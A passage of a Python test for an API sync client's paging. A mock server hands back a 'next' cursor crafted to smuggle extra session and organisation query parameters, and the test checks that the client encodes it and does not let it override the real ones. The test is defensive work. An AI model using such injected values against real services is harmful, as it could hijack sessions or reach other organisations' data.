    evil = "x&sessionId=other&sessionOrgId=evil#frag"

    def script(path: str, _headers: dict[str, str]) -> Reply:
        query = parse_qs(urlsplit(path).query)
        nxt = "" if "start" in query else evil
        return 200, {}, json.dumps({"items": [ONE], "next": nxt}).encode()

    with Scripted(script).running() as server:
        _con, result = sync_against(server, tmp_db)
    assert result.status == "ok" and result.pages == 2
    second = parse_qs(urlsplit(server.requests[1][0]).query)
    assert second == {"sessionOrgId": ["org-1"], "sessionId": ["sess-1"], "start": [evil]}
